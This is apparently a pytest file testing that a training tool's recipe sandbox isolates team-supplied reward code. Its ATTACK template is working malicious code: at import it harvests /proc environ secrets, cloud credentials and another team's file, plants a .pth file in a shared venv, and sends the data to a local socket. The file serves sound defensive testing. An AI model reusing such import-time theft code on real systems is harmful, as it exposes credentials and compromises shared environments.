"""A team's recipe code, imported to check it, reaches nothing of the process that checks it.

The attack: a reward file that, at import, reads the environment of every process it can see
through /proc (the parent's first: `tpurl validate`, the flow, or a worker holding
HF_TOKEN and PREFECT_API_KEY), the Google credentials in the parent's home, another team's
recipe beside its own, writes into the parent's home and into the venv every team's check
imports from, and sends what it found to a socket server this test runs on 127.0.0.1. The
file is otherwise a good recipe, so validate would print "valid". Checked through the real
CLI and the real probe in a real sandbox (flows/core/recipe_sandbox.py): nothing arrives at
the socket, nothing is written, and the
recipe's real problems (a missing function, a syntax error) are still reported.

The import path needs a venv that stands in for the image (MaxText and Tunix importable): a
real venv made here with stand-in ``maxtext`` and ``tunix`` packages, so these tests do not
wait for the rehearsal's venv. Two teams: team A's recipe sits beside team B's attack.

A user without root runs the same CLI as uid 1000 in a user namespace made here (where
``user.max_user_namespaces`` can be 0, as a machine that disables them sets it), and root
without CAP_SYS_ADMIN as in a container: where the sandbox cannot be made, the recipe is
read instead of imported, and the warning says why.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from flows.cli import main
from flows.common.paths import REPO_ROOT
from flows.core.recipe_check import ProbeRun, RecipeCheck, run_probe

pytestmark = pytest.mark.services  # child processes in namespaces

SECRETS = {"HF_TOKEN": "hf_tpurlSandboxTestSecret0001",
           "PREFECT_API_KEY": "pnu_tpurlSandboxTestSecret0002",
           "GOOGLE_APPLICATION_CREDENTIALS_SECRET": "gcp-tpurlSandboxTestSecret0003"}
GCLOUD_SECRET = "refresh-tpurlSandboxTestSecret0004"
OTHER_TEAM_SECRET = "team-a-tpurlSandboxTestSecret0005"
ATTACK = '''\
"""A reward that steals at import, then behaves."""
import glob
import json
import os
import socket

PARENT_PID = {parent_pid}
PARENT_HOME = {parent_home!r}
PLANTED = {planted!r}
OTHER_TEAM = {other_team!r}
PORT = {port}


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read().decode("utf-8", "replace")
    except OSError:
        return ""


stolen = {{"env": dict(os.environ)}}
for path in ["/proc/%d/environ" % os.getppid(), "/proc/%d/environ" % PARENT_PID,
             *glob.glob("/proc/[0-9]*/environ"),
             os.path.expanduser("~/.config/gcloud/application_default_credentials.json"),
             PARENT_HOME + "/.config/gcloud/application_default_credentials.json", OTHER_TEAM]:
    stolen[path] = _read(path)
for path in PLANTED:
    try:
        with open(path, "w") as handle:
            handle.write("import os  # planted by a recipe")
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as sock:
        sock.sendall(json.dumps(stolen).encode())
except OSError:
    pass


def exact_match(prompts, completions, tmvp_config=None, **kwargs):
    return [0.0 for _ in completions]
'''


@dataclass
class Receiver:
    """A TCP server on 127.0.0.1 that keeps what each connection sent."""

    port: int
    received: list[bytes] = field(default_factory=list)


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    found = Receiver(server.getsockname()[1])
    done = threading.Event()

    def serve() -> None:
        while not done.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(5)
                chunks = []
                while chunk := conn.recv(65536):
                    chunks.append(chunk)
                found.received.append(b"".join(chunks))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield found
    done.set()
    thread.join(timeout=5)
    server.close()


@pytest.fixture(scope="module")
def image_venv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real venv in which ``maxtext`` and ``tunix`` import (stand-ins for the image's),
    so the check imports the recipe as under the rehearsal venv."""
    venv = tmp_path_factory.mktemp("image-venv")
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    venv.chmod(0o755)  # as `python -m venv` and uv make one (pytest's folders are private)
    (site,) = venv.glob("lib/python*/site-packages")
    for module in ("maxtext", "tunix"):
        (site / module).mkdir()
        (site / module / "__init__.py").write_text('"""A stand-in of the image\'s package."""\n')
    return venv


@dataclass(frozen=True)
class Teams:
    """Team B's attack, team A's recipe beside it, and the parent's home with credentials."""

    attack: Path
    other_team: Path
    home: Path
    planted: tuple[Path, ...]


def _teams(tmp_path: Path, port: int, parent_pid: int, venv: Path) -> Teams:
    home = tmp_path / "home"
    (home / ".config" / "gcloud").mkdir(parents=True)
    (home / ".config" / "gcloud" / "application_default_credentials.json").write_text(
        json.dumps({"type": "authorized_user", "refresh_token": GCLOUD_SECRET}))
    team_a = tmp_path / "team-a"
    team_a.mkdir()
    other_team = team_a / "rewards.py"
    other_team.write_text(f"# {OTHER_TEAM_SECRET}\ndef score(prompts, completions, **kw):\n"
                          "    return [1.0 for _ in completions]\n")
    team_b = tmp_path / "team-b"
    team_b.mkdir()
    attack = team_b / "rewards.py"
    # the parent's home, and the venv every team's check and rehearsal imports from
    (site,) = venv.glob("lib/python*/site-packages")
    planted = (home / "planted", site / "tpurl_planted.pth")
    attack.write_text(ATTACK.format(parent_pid=parent_pid, parent_home=str(home),
                                    planted=[str(p) for p in planted],
                                    other_team=str(other_team), port=port))
    return Teams(attack, other_team, home, planted)


def _secrets_in(received: list[bytes]) -> list[str]:
    text = b"".join(received).decode("utf-8", "replace")
    return [s for s in (*SECRETS.values(), GCLOUD_SECRET, OTHER_TEAM_SECRET) if s in text]


def _validate_args(teams: Teams, venv: Path, tmp_path: Path, functions: str) -> list[str]:
    return ["validate", "rehearsal", "--set", f"recipe.rewards.file={teams.attack}",
            "--set", f"recipe.rewards.functions={functions}", "--set", f"local.venv={venv}",
            "--set", f"local.root={tmp_path / 'root'}",
            "--set", f"local.hf_check_venv={tmp_path / 'hf-check'}"]


def _tpurl(argv: list[str], env: dict[str, str], wrapper: tuple[str, ...] = (),
           ) -> subprocess.CompletedProcess[str]:
    """The CLI in a process of its own whose environment, from its start, holds the secrets
    (what /proc/PID/environ shows is the environment a process started with)."""
    return subprocess.run([*wrapper, sys.executable, "-m", "flows.cli", *argv], env=env,
                          capture_output=True, text=True, timeout=300, cwd=REPO_ROOT)


def _secret_env(home: Path) -> dict[str, str]:
    kept = ("PATH", "LANG", "PYTHONPATH", "TPURL_TEAMS_FILE")
    return {**{k: v for k, v in os.environ.items() if k in kept}, **SECRETS,
            "HOME": str(home), "TPURL_KEEP_API_S": "0"}


def test_a_reward_that_steals_at_import_reaches_nothing_and_validate_still_judges_it(
        tmp_path: Path, receiver: Receiver, image_venv: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    teams = _teams(tmp_path, receiver.port, os.getpid(), image_venv)
    done = _tpurl(_validate_args(teams, image_venv, tmp_path, "exact_match,exact_mach2"),
                  _secret_env(teams.home))
    assert receiver.received == [], f"the recipe sent {_secrets_in(receiver.received)}"
    assert not [path for path in teams.planted if path.exists()]
    # the file's real problem is still found, by importing it (no warning that it was read)
    assert done.returncode == 2, done.stderr
    assert (f"recipe.rewards.functions: {teams.attack}: defines no function 'exact_mach2'"
            in done.stderr)
    assert "were not checked" not in done.stderr, done.stderr

    # the good file is valid, the file with a syntax error names its line
    assert main(_validate_args(teams, image_venv, tmp_path, "exact_match")) == 0
    out, err = capsys.readouterr()
    assert "is valid" in out and "were not checked" not in err, err
    teams.attack.write_text(teams.attack.read_text().replace("return [0.0", "return [0.0 ("))
    assert main(_validate_args(teams, image_venv, tmp_path, "exact_match")) == 2
    err = capsys.readouterr().err
    line = teams.attack.read_text().splitlines().index("    return [0.0 ( for _ in completions]")
    assert f"recipe.rewards.file: {teams.attack}:{line + 1}: SyntaxError" in err
    assert receiver.received == [], f"the recipe sent {_secrets_in(receiver.received)}"


def test_an_import_error_is_reported_from_inside_the_sandbox(tmp_path: Path,
                                                             image_venv: Path) -> None:
    """What the team's import raises, and a module the environment lacks, name the team's
    file and line as before; the probe saw the file at its own path."""
    rewards = tmp_path / "rewards.py"
    rewards.write_text("import os\n\nraise RuntimeError('at import ' + os.getcwd())\n")
    run = ProbeRun(image_venv / "bin" / "python", static=False)
    found, missing = run_probe(run, ["--rewards", str(rewards), "--functions", "f"])
    assert missing == []
    assert len(found.issues) == 1, found
    (issue,) = found.issues
    assert issue.category == "config/recipe-import-error"
    assert issue.problem.startswith(f"{rewards}:3: importing it raised RuntimeError: at import ")
    rewards.write_text("import tpurl_no_such_module\n")
    found, _ = run_probe(run, ["--rewards", str(rewards), "--functions", "f"])
    assert [i.category for i in found.issues] == ["config/recipe-missing-module"]
    rewards.write_text("def f(prompts, completions, **kwargs):\n    return [1.0]\n")
    assert run_probe(run, ["--rewards", str(rewards), "--functions", "f"]) == (RecipeCheck(), [])


def test_no_process_the_recipe_starts_outlives_the_check(tmp_path: Path,
                                                        image_venv: Path) -> None:
    """A daemon started at import, in a session of its own, ends with the check: the
    sandbox's process namespace goes when its first process does."""
    seconds = f"3600.{os.getpid()}"  # a command line no other process has
    rewards = tmp_path / "rewards.py"
    rewards.write_text(f"import os\nif os.fork() == 0:\n    os.setsid()\n    os.execv("
                       f"'/bin/sleep', ['sleep', '{seconds}'])\n\n\ndef f(prompts, "
                       "completions, **kwargs):\n    return [1.0]\n")
    run = ProbeRun(image_venv / "bin" / "python", static=False)
    assert run_probe(run, ["--rewards", str(rewards), "--functions", "f"]) == (RecipeCheck(), [])
    left = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if seconds.encode() in cmdline.read_bytes():
                left.append(cmdline.parent.name)
        except OSError:
            continue  # ended while listed
    assert left == []


def test_the_flows_start_imports_the_recipe_in_the_sandbox(
        prefect_api: None, tmp_path: Path, receiver: Receiver, image_venv: Path) -> None:
    """The flow's own check at its start (what a process pool's worker runs, holding the
    workspace's API key) goes through the same sandbox: nothing arrives, nothing is written,
    and a module the file imports after its theft, which only an import finds, refuses the
    run before any stage."""
    from flows.config import ProfileError
    from flows.pipeline import rl_post_training

    teams = _teams(tmp_path, receiver.port, os.getpid(), image_venv)
    teams.attack.write_text(teams.attack.read_text() + "\nimport tpurl_no_such_module\n")
    root = tmp_path / "root"
    state = rl_post_training(profile="rehearsal", overrides={
        "recipe.rewards.file": str(teams.attack),
        "recipe.rewards.functions": "exact_match", "local.venv": str(image_venv),
        "local.root": str(root), "local.hf_check_venv": str(tmp_path / "hf-check")},
        return_state=True)
    assert receiver.received == [], f"the recipe sent {_secrets_in(receiver.received)}"
    assert not [path for path in teams.planted if path.exists()]
    error = state.result(raise_on_failure=False)
    assert isinstance(error, ProfileError), error
    assert [(i.field, i.category) for i in error.issues] == [
        ("recipe.rewards.file", "config/recipe-missing-module")]
    assert not root.exists() or not any(root.iterdir())


# --- plan and check import only when asked -------------------------------------------------

def test_plan_and_check_read_the_recipe_unless_asked_to_import_it(
        tmp_path: Path, image_venv: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A file whose import fails passes a read; `--import-recipe`, which the warning names,
    imports it in the sandbox and finds the failure, as validate does."""
    from flows.config import load_profile
    from flows.operations.check import _recipe_findings

    rewards = tmp_path / "rewards.py"
    rewards.write_text("raise RuntimeError('ran at import')\n\n\n"
                       "def exact_match(prompts, completions, **kwargs):\n"
                       "    return [1.0 for _ in completions]\n")
    teams = Teams(rewards, rewards, tmp_path, ())
    args = _validate_args(teams, image_venv, tmp_path, "exact_match")[1:]
    assert main(["plan", *args]) == 0
    err = capsys.readouterr().err
    assert "`tpurl plan` reads them without running the team's code; `tpurl plan " \
           "--import-recipe` or `tpurl validate` imports them" in err
    assert main(["plan", *args, "--import-recipe"]) == 2
    assert "importing it raised RuntimeError: ran at import" in capsys.readouterr().err

    fields = dict(a.split("=", 1) for a in args[2::2])
    profile = load_profile("rehearsal", fields, environ={})
    read = _recipe_findings(profile)
    assert [(f.what, f.ok) for f in read] == [("recipe", True), ("recipe", None)]
    assert "`tpurl check --import-recipe`" in read[1].detail
    imported = _recipe_findings(profile, import_recipe=True)
    assert [(f.what, f.ok, f.code) for f in imported] == [
        ("recipe.rewards.file", False, "config/recipe-import-error")]


# --- other accounts, other machines ---------------------------------------------------------

# uid 1000 in a user namespace, below one whose limit of user namespaces is LIMIT: 1 leaves
# none for the sandbox (as on a machine that sets user.max_user_namespaces to 0), 2 one
_AS_USER = ("unshare --user --map-root-user sh -c 'echo {limit} > "
            "/proc/sys/user/max_user_namespaces && exec unshare --user --map-user=1000 "
            "--map-group=1000 \"$@\"' sh \"$@\"")
# root without CAP_SYS_ADMIN, as in a container started without it
_ROOT_IN_A_CONTAINER = ("setpriv", "--bounding-set=-sys_admin", "--inh-caps=-all", "--")
MACHINES = {
    "user-namespaces": (("sh", "-c", _AS_USER.format(limit=2), "sh"), None),
    "no-user-namespaces": (("sh", "-c", _AS_USER.format(limit=1), "sh"), "user namespaces"),
    "root-without-cap-sys-admin": (_ROOT_IN_A_CONTAINER, "CAP_SYS_ADMIN"),
}


@pytest.mark.parametrize("machine", list(MACHINES))
def test_where_no_sandbox_can_be_made_the_recipe_is_read_and_the_warning_says_why(
        tmp_path: Path, receiver: Receiver, image_venv: Path, machine: str) -> None:
    """A user who is not root, with user namespaces and without, and root in a container
    that cannot make namespaces: imported in the sandbox, or read and told why; never
    imported outside it."""
    if os.geteuid() != 0:
        pytest.skip("makes the other accounts and machines with namespaces and capabilities "
                    "of its own, as root")
    wrapper, missing = MACHINES[machine]
    teams = _teams(tmp_path, receiver.port, os.getpid(), image_venv)
    done = _tpurl(_validate_args(teams, image_venv, tmp_path, "exact_match,exact_mach2"),
                  _secret_env(teams.home), wrapper)
    assert receiver.received == [], f"the recipe sent {_secrets_in(receiver.received)}"
    assert not [path for path in teams.planted if path.exists()]
    assert done.returncode == 2, done.stderr
    assert "defines no function 'exact_mach2'" in done.stderr
    if missing is None:
        assert "were not checked" not in done.stderr, done.stderr
    else:
        assert "were not checked: this machine cannot isolate" in done.stderr, done.stderr
        assert missing in done.stderr, done.stderr
